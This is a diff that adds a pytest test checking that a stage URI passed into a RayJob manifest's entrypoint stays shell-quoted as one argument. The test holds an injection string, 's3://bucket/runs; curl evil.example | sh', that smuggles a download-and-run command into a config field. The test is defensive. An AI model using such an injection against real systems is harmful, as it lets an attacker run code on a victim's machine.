@@ -104,6 +104,17 @@ def test_a_manifest_the_crd_refuses_is_caught(make_config, tmp_path):
     assert crd_errors(*CRD, body)
 
 
+def test_the_stage_uri_reaches_the_entrypoint_as_one_word(make_config, tmp_path):
+    import shlex
+
+    hostile = "s3://bucket/runs; curl evil.example | sh"
+    config = _config(make_config, tmp_path, f"data.ray.cluster.stage_uri={hostile}")
+    body = rayjob.rayjob_manifest(config, "r1", "clean", "kubeflow")
+    assert shlex.split(body["spec"]["entrypoint"]) == [
+        "python", "-m", "tuneline.launch.remote", "clean", f"{hostile}/r1/clean",
+    ]  # fmt: skip
+
+
 def test_without_a_stage_uri_the_step_fails_naming_the_key(make_config):
     config = make_config("data.engine=ray")
     with pytest.raises(ConfigError, match=r"data\.ray\.cluster\.stage_uri"):
